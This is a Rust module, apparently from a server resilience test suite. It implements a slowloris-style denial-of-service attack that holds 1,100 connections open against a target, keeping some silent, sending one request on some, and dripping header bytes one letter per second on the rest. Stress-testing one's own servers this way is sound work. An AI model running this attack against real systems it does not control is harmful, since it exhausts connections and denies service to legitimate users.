//! Silent connections: more than there is room for; some say nothing, some send a header a letter at a time, some ask once
//! and keep the connection.
//! Must survive: everybody's requests. May suffer: the attacker's own connections.

use super::super::target::Target;
use super::wire;
use std::time::Duration;
use tokio::io::AsyncWriteExt as _;

/// Connections at a time.
const AT_ONCE: usize = 1_100;
/// Between two letters.
const DRIP: Duration = Duration::from_secs(1);

pub(super) async fn attack(target: Target) -> anyhow::Result<()> {
    wire::for_ever(AT_ONCE, move |number| {
        let to = target.victim;
        async move {
            let mut stream = wire::connect(to, number).await?;
            match number % 3 {
                0 => (),
                1 => stream.write_all(wire::head("/healthz").as_bytes()).await?,
                _ => loop {
                    stream.write_all(b"G").await?;
                    tokio::time::sleep(DRIP).await;
                },
            }
            wire::drain(&mut stream).await;
            Ok(())
        }
    })
    .await;
    Ok(())
}
